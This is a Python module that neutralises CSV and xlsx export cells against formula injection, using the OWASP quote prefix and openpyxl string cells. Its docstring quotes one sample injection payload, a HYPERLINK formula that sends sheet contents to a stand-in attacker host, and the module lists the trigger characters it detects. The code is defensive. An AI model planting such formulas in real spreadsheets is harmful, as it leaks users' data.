"""Cells from people's data, made inert for spreadsheets (CSV and formula injection).

A spreadsheet program evaluates a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and some also after a leading tab or carriage return) as a formula: a traveller named
``=HYPERLINK("http://evil.example/?d="&A1,"Xem")`` would become a live link that leaks
the sheet. Every export goes through this one module:

* CSV: such a value gets the OWASP prefix, a single quote (``'=HYPERLINK(…)``), which
  spreadsheet programs show as text;
* xlsx: every string is written as a string cell (never a formula), and such a value is
  also marked "quote prefix", so editing the cell keeps it text.

Numbers, dates and booleans are not strings and stay what they are.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

from openpyxl.cell.cell import Cell
from openpyxl.worksheet.worksheet import Worksheet

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def dangerous(value: Any) -> bool:
    """True when ``value`` is a string a spreadsheet could read as a formula."""
    return isinstance(value, str) and value.startswith(TRIGGERS)


def csv_value(value: Any) -> Any:
    """``value`` for a CSV cell: a dangerous string gets the ``'`` prefix; None is empty."""
    if value is None:
        return ""
    if dangerous(value):
        return "'" + value
    return value


def csv_row(row: Mapping[str, Any]) -> dict[str, Any]:
    """A CSV row (``csv.DictWriter``) with every value made inert."""
    return {key: csv_value(value) for key, value in row.items()}


def csv_rows(rows: Iterable[Mapping[str, Any]]) -> list[dict[str, Any]]:
    return [csv_row(row) for row in rows]


def set_cell(cell: Cell, value: Any) -> Cell:
    """Write ``value`` into ``cell``; a string is always a string cell, never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"  # openpyxl turns any "=…" string into a formula otherwise
        if dangerous(value):
            cell.quotePrefix = True
    return cell


def write(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """``ws.cell(row, column, value)`` made inert."""
    return set_cell(ws.cell(row, column), value)


def neutralise_sheet(ws: Worksheet) -> None:
    """A last pass over a finished sheet: no cell is left a formula (exports write none)."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                set_cell(cell, str(cell.value))
